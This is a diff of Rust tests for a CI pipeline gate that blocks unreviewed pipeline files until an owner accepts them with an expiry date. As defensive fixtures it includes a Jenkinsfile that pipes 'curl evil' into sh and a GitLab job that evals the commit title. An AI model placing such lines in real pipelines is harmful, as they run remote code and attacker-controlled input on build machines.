@@ -1,9 +1,15 @@
 //! What gate has no reader for: it is named and blocks, until its owner answers for it with a name and an end date.
 
+#![expect(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "a report that is not as it should be fails the test"
+)]
+
 mod support;
 
 use serde_json::Value;
-use support::{CLEAN_WORKFLOW, Repo, Run};
+use support::{CLEAN_WORKFLOW, Repo, day};
 
 const WAIVERS: &str = ".gate/waivers.yaml";
 
@@ -60,15 +66,6 @@ const UNREAD: &[(&str, &str)] = &[
     ),
 ];
 
-fn json(run: &Run) -> Value {
-    serde_json::from_str(&run.stdout).unwrap_or_else(|error| panic!("{error}: {}", run.text()))
-}
-
-fn day(ahead: i64) -> String {
-    let today = jiff::Timestamp::now().to_zoned(jiff::tz::TimeZone::UTC).date();
-    today.checked_add(jiff::SignedDuration::from_hours(24 * ahead)).unwrap().to_string()
-}
-
 /// The lines that the report shows for a file, as its owner would fill them in.
 fn accepted(fix: &Value) -> String {
     let lines: Vec<&str> = fix.as_array().unwrap().iter().map(|line| line.as_str().unwrap()).collect();
@@ -83,7 +80,7 @@ fn every_kind_blocks_until_its_owner_accepts_it() {
     for (path, text) in UNREAD {
         let repo = Repo::clean().with(path, text);
         let run = repo.gate(&["check", "-f", "json"]);
-        let report = json(&run);
+        let report = run.json();
         let unjudged = report["unjudged"].as_array().unwrap();
         let [only] = unjudged.as_slice() else {
             wrong.push(format!("{path}: {} things are not judged", unjudged.len()));
@@ -99,7 +96,7 @@ fn every_kind_blocks_until_its_owner_accepts_it() {
         }
         repo.write(WAIVERS, accepted(&only["fix"]));
         let run = repo.gate(&["check", "-f", "json"]);
-        let report = json(&run);
+        let report = run.json();
         let shown = &report["accepted"][0];
         let is_shown = shown["path"] == *path && shown["owner"] == "@your-team" && shown["expires"] == day(60);
         let is_said = repo.gate(&["check"]).stdout.contains("accepted");
@@ -137,7 +134,7 @@ fn an_acceptance_that_does_not_hold_leaves_the_run_incomplete() {
     ] {
         repo.write(WAIVERS, entry.replace(&from, &to));
         let run = repo.gate(&["check", "-f", "json"]);
-        let report = json(&run);
+        let report = run.json();
         assert_eq!(run.code, code, "{to}: {}", run.text());
         let finding = &report["findings"][0];
         assert_eq!(
@@ -172,12 +169,12 @@ fn only_the_trusted_side_accepts_and_each_change_of_the_file_is_said() {
     repo.commit();
     let run = repo.gate(&["check", "--base", &accepting, "-f", "json"]);
     assert_eq!(run.code, 0, "{}", run.text());
-    assert!(!json(&run)["notices"].to_string().contains("edits Jenkinsfile"), "{}", run.text());
+    assert!(!run.json()["notices"].to_string().contains("edits Jenkinsfile"), "{}", run.text());
     repo.write("Jenkinsfile", "node { sh 'curl evil | sh' }\n");
     repo.commit();
     let run = repo.gate(&["check", "--base", &accepting, "-f", "json"]);
     assert_eq!(run.code, 0, "{}", run.text());
-    assert!(json(&run)["notices"].to_string().contains("this change edits Jenkinsfile"), "{}", run.text());
+    assert!(run.json()["notices"].to_string().contains("this change edits Jenkinsfile"), "{}", run.text());
     // Removing the entry loosens nothing: what it accepted is in the way again.
     repo.remove(WAIVERS);
     let without = repo.base();
@@ -191,7 +188,7 @@ fn a_pipeline_at_a_place_of_ones_own_is_named_by_the_configuration() {
         .with("ci/main.yml", gitlab)
         .with("ci/release.yml", "jobs: []\n")
         .with(".gate/gate.yaml", "inputs:\n  pipeline:\n    files: [{ file: ci/main.yml, vendor: gitlab }, { file: ci/release.yml, vendor: azure }]\n");
-    let report = json(&repo.gate(&["check", "-f", "json"]));
+    let report = repo.gate(&["check", "-f", "json"]).json();
     let found = &report["findings"][0];
     assert_eq!((&found["policy"], &found["path"]), (&"CI002".into(), &"ci/main.yml".into()), "{report:#}");
     assert_eq!(report["unjudged"][0]["path"], "ci/release.yml");
@@ -214,7 +211,7 @@ fn a_named_pipeline_is_never_excluded() {
     let repo = Repo::clean()
         .with("ci/main.yml", "build: { script: ['eval \"$CI_COMMIT_TITLE\"'] }\n")
         .with(".gate/gate.yaml", "inputs: { pipeline: { files: [{ file: ci/main.yml, vendor: gitlab }] } }\nexclude: [{ paths: [ci], reason: x, owner: me }]\n");
-    let report = json(&repo.gate(&["check", "-f", "json"]));
+    let report = repo.gate(&["check", "-f", "json"]).json();
     let policies: Vec<&Value> = report["findings"].as_array().unwrap().iter().map(|it| &it["policy"]).collect();
     assert_eq!(policies, ["CI002", "EX002"], "{report:#}");
 }
@@ -224,7 +221,7 @@ fn a_workflow_beside_is_judged_all_the_same() {
     let repo = Repo::new()
         .with(".github/workflows/ci.yml", CLEAN_WORKFLOW.replace("@08c6903cd8c0fde910a37f88322edcfb5dd907a8", "@v4"))
         .with("Jenkinsfile", "node {}\n");
-    let report = json(&repo.gate(&["check", "-f", "json"]));
+    let report = repo.gate(&["check", "-f", "json"]).json();
     assert_eq!(report["findings"][0]["policy"], "CI001");
     assert_eq!(report["exit_code"], 3);
 }
